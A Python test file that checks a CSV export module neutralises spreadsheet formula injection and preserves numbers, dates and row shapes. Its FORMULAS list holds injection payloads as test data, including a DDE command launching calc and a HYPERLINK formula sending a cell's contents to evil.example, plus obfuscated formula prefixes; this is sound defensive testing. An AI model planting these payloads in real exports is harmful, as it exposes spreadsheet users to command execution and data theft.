"""CSV exports: nothing from outside is a formula, numbers stay numbers, every digit is kept."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.reports.spreadsheet import FORMULA_STARTS, SNAPSHOT_COLUMNS, cell_text, csv_text, snapshot_csv

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\0=1+1",
    "\x1f=1+1",
    "\u2003\x1c=1+1",
    "＝1+1",
    "|calc",
    "%0A=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_be_a_formula_is_shown_as_text(text: str) -> None:
    assert cell_text(text).startswith("'")
    [[_], [cell]] = csv.reader(io.StringIO(csv_text(["name"], [[text]]), newline=""))
    assert cell.startswith("'")
    assert not any(letter < " " for letter in cell)


@given(text=st.text())
def test_no_text_starts_a_formula_or_a_row(text: str) -> None:
    written = csv_text(["a", "b"], [[text, "end"]])
    parsed = list(csv.reader(io.StringIO(written, newline="")))
    assert len(parsed) == 2
    assert len(parsed[1]) == 2
    assert parsed[1][1] == "end"
    assert parsed[1][0].lstrip()[:1] not in FORMULA_STARTS


@pytest.mark.parametrize("text", ["", "checkout", "a=b", "3.5 %", "Größe", "it's", 'a "b"', "a,b;c", "日本", "  "])
def test_ordinary_text_comes_back_as_it_was(text: str) -> None:
    [[_], [cell]] = csv.reader(io.StringIO(csv_text(["name"], [[text]]), newline=""))
    assert cell == text


@given(value=st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_keep_every_digit_and_their_sign(value: float) -> None:
    assert float(cell_text(value)) == value
    assert not cell_text(value).startswith("'")


def test_what_does_not_exist_is_an_empty_cell() -> None:
    assert [cell_text(value) for value in (None, float("nan"), float("inf"), float("-inf"))] == ["", "", "", ""]
    assert [cell_text(value) for value in (True, False, 7)] == ["true", "false", "7"]
    assert cell_text(datetime(2026, 3, 1, tzinfo=UTC)) == "2026-03-01T00:00:00.000000Z"


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="3 cells, the header has 2"):
        csv_text(["a", "b"], [[1, 2, 3]])


def test_a_snapshot_has_a_row_per_comparison_with_its_numbers(samples: type) -> None:
    shown = samples.snapshot()
    rows = list(csv.DictReader(io.StringIO(snapshot_csv(shown), newline="")))
    wanted = [(metric, comparison) for metric in shown.metrics for comparison in metric.comparisons]
    assert list(rows[0]) == list(SNAPSHOT_COLUMNS)
    assert len(rows) == len(wanted) == 3
    for row, (metric, comparison) in zip(rows, wanted, strict=True):
        assert row["metric"] == metric.metric
        assert row["verdict"] == (comparison.verdict or "")
        for name in ("difference", "low", "high", "lift", "p_value"):
            value = getattr(comparison, name)
            assert (row[name] == "") if value is None else (float(row[name]) == value)
        assert float(row["control_mean"]) == metric.arms[0].mean
        assert int(row["treatment_n"]) == metric.arms[1].n


def test_hostile_names_in_a_snapshot_are_inert(samples: type) -> None:
    treated = samples.comparison(FORMULAS[3], reason=FORMULAS[4])
    hostile = samples.snapshot(
        experiment=FORMULAS[0],
        control=FORMULAS[2],
        metrics=(samples.metric(label=FORMULAS[1], comparisons=(treated,)),),
    )
    [row] = csv.DictReader(io.StringIO(snapshot_csv(hostile), newline=""))
    for name in ("experiment", "label", "control", "treatment", "reason"):
        assert row[name].startswith("'"), name
